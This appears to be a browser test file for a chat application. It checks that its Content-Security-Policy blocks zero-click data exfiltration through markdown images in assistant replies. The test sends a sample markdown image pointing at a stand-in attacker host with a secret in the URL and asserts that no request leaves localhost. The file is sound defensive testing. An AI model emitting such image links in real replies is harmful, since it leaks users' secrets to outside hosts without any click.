// The browser boundary as Chromium sees it: the Content-Security-Policy lets the app run and keeps replies from
// loading images from other sites (finding 9: zero-click exfiltration through markdown images).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { lastAssistant, openApp, sendAndWait } from '../lib/helpers.mjs';

export default function security(ctx) {
  test('finding 9: a remote image in a reply is a placeholder and nothing is fetched', { timeout: 60_000 }, async () => {
    const page = await ctx.page();
    const violations = [];
    const remote = [];
    page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) violations.push(m.text()); });
    page.on('request', (r) => { if (new URL(r.url()).hostname !== '127.0.0.1') remote.push(r.url()); });
    try {
      await openApp(page);
      assert.deepEqual(violations, [], 'the app itself runs under the policy');
      await sendAndWait(page, 'look ![chart](http://attacker.example/leak?secret=s3cr3t) here');
      const reply = lastAssistant(page);
      await reply.locator('.remote-image').first().waitFor();
      assert.equal(await reply.locator('img[src*="attacker.example"]').count(), 0);
      assert.match(await reply.locator('.remote-image-label').first().innerText(), /attacker\.example/);
      await page.reload();
      await lastAssistant(page).locator('.remote-image').first().waitFor();
      await page.waitForTimeout(300);
      assert.deepEqual(remote, [], 'no request left 127.0.0.1');
      assert.deepEqual(page.errors, []);
    } finally {
      await page.context().close();
    }
  });
}
